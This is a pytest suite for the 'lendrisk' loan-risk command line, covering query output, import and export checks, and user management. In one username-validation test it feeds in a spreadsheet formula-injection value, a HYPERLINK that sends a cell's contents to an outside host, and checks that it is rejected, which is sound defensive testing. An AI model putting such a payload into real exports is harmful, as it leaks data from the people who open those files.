"""The command line: exit codes, messages, and what each command prints, on the tiny platform."""

from __future__ import annotations

import hashlib
import io
import json
from pathlib import Path

import pytest

from lendrisk import auth, cli, store


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_query_prints_loan_states_as_json(tiny_db_copy: Path, capsys) -> None:
    code = cli.main(
        [
            "--db",
            str(tiny_db_copy),
            "query",
            "loan_state_as_of",
            "--param",
            "as_of=2024-03-31",
            "--format",
            "json",
        ]
    )
    assert code == cli.EXIT_OK
    rows = {r["loan_id"]: r for r in json.loads(capsys.readouterr().out)}
    assert (rows["L1"]["state"], rows["L1"]["dpd"], rows["L1"]["outstanding_principal"]) == (
        "1-30",
        16,
        708.0,
    )
    assert (rows["L3"]["state"], rows["L3"]["dpd"]) == ("1-30", 21)


def test_query_as_csv_and_the_list_of_queries(tiny_db_copy: Path, capsys) -> None:
    assert (
        cli.main(
            ["--db", str(tiny_db_copy), "query", "overdue_by_bucket", "--format", "csv"]
            + [f"--param={p}=null" for p in ("investor_id", "grade", "product", "channel", "region")]
            + ["--param", "as_of=2024-03-31"]
        )
        == cli.EXIT_OK
    )
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "bucket,bucket_order,loans,outstanding_principal,share,past_due_amount"
    assert lines[2].startswith("1-30,2,2,2708.0,")  # L1 708 + L3 2,000
    assert cli.main(["query", "--list"]) == cli.EXIT_OK
    listing = capsys.readouterr().out
    assert "loan_state_as_of" in listing and "$as_of" in listing


def test_query_with_wrong_parameters_is_bad_input(tiny_db_copy: Path, capsys) -> None:
    assert (
        cli.main(["--db", str(tiny_db_copy), "query", "loan_state_as_of", "--param", "asof=2024-03-31"]) == 2
    )
    err = capsys.readouterr().err
    assert "missing: as_of" in err and "unexpected: asof" in err and "Traceback" not in err


def test_info_prints_source_and_row_counts(tiny_db_copy: Path, capsys) -> None:
    assert cli.main(["--db", str(tiny_db_copy), "info"]) == cli.EXIT_OK
    out = capsys.readouterr().out
    assert "source:       tiny" in out
    assert "observed_to:  2024-12-31" in out
    assert "2024-01-10 .. 2024-02-01" in out
    assert "  loans                    3" in out


def test_missing_store_is_bad_input(tmp_path: Path, capsys) -> None:
    assert cli.main(["--db", str(tmp_path / "none.duckdb"), "info"]) == cli.EXIT_BAD_INPUT
    assert "no store here" in capsys.readouterr().err


def test_bad_import_names_file_row_and_column_and_changes_nothing(
    tiny_db_copy: Path, tmp_path: Path, capsys
) -> None:
    bad = tmp_path / "investors.csv"
    bad.write_text("investor_id,segment\nI9,whale\n", encoding="utf-8")
    before = digest(tiny_db_copy)
    assert cli.main(["--db", str(tiny_db_copy), "import", str(bad)]) == cli.EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "investors.csv row 2, column segment" in err and "'whale'" in err
    assert digest(tiny_db_copy) == before


def users(tiny_db_copy: Path, monkeypatch: pytest.MonkeyPatch, *args: str, stdin: str = "") -> int:
    """`python -m lendrisk users ...` with the password piped on standard input."""
    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    return cli.main(["--db", str(tiny_db_copy), "users", *args])


def test_users_add_list_reset_remove(tiny_db_copy: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (
        users(tiny_db_copy, monkeypatch, "add", "analyst", "--role", "manager", stdin="long-enough-1\n") == 0
    )
    assert users(tiny_db_copy, monkeypatch, "list") == cli.EXIT_OK
    listing = capsys.readouterr().out
    assert "analyst" in listing and "password_hash" not in listing
    con = store.connect(tiny_db_copy)
    try:
        (hash_,) = con.execute("select password_hash from users where username = 'analyst'").fetchall()[0]
    finally:
        con.close()
    assert hash_.startswith("$argon2") and auth.password_matches(hash_, "long-enough-1")
    assert users(tiny_db_copy, monkeypatch, "add", "analyst", "--role", "manager", stdin="x" * 9) == 2
    assert "already taken" in capsys.readouterr().err
    assert users(tiny_db_copy, monkeypatch, "add", "short", "--role", "manager", stdin="abc\n") == 2
    assert "too short" in capsys.readouterr().err
    assert users(tiny_db_copy, monkeypatch, "reset", "analyst", stdin="another-secret\n") == cli.EXIT_OK
    assert users(tiny_db_copy, monkeypatch, "remove", "analyst") == cli.EXIT_OK
    assert users(tiny_db_copy, monkeypatch, "remove", "analyst") == cli.EXIT_BAD_INPUT


def test_users_cli_has_the_data_pages_rules(
    tiny_db_copy: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    for bad in ('=HYPERLINK("https://x?q="&C2)', "bad user!<b>", ".hidden", "ab"):
        assert users(tiny_db_copy, monkeypatch, "add", bad, "--role", "manager", stdin="long-enough-1\n") == 2
        assert "A username has 3–40 letters" in capsys.readouterr().err
    with pytest.raises(SystemExit):  # no --password option: a password never sits in `ps`
        cli.main(["--db", str(tiny_db_copy), "users", "add", "eve", "--password", "long-enough-1"])
    assert users(tiny_db_copy, monkeypatch, "remove", "admin") == 2  # the only admin
    assert "last administrator" in capsys.readouterr().err


def test_export_then_import_into_a_new_store_gives_the_same_loans(tiny_db_copy: Path, tmp_path: Path) -> None:
    out = tmp_path / "export"
    assert cli.main(["--db", str(tiny_db_copy), "export", str(out)]) == cli.EXIT_OK
    fresh = tmp_path / "fresh.duckdb"
    files = sorted(str(p) for p in out.glob("*.csv"))
    assert cli.main(["--db", str(fresh), "import", *files]) == cli.EXIT_OK
    a, b = store.read_tables(tiny_db_copy, ("loans",))["loans"], store.read_tables(fresh, ("loans",))["loans"]
    assert (
        a.sort_values("loan_id")
        .reset_index(drop=True)
        .equals(b.sort_values("loan_id").reset_index(drop=True))
    )


@pytest.mark.slow  # builds demo platforms
def test_demo_builds_a_small_reproducible_store(tmp_path: Path, capsys) -> None:
    path = tmp_path / "demo.duckdb"
    assert cli.main(["--db", str(path), "demo", "--loans", "300", "--seed", "3"]) == cli.EXIT_OK
    con = store.connect(path)
    try:
        loans = con.execute("select count(*) from loans").fetchall()[0][0]
        users = sorted(r[0] for r in con.execute("select username from users").fetchall())
    finally:
        con.close()
    assert loans == 300
    assert users == ["admin", "investor1", "investor2", "investor3", "manager"]
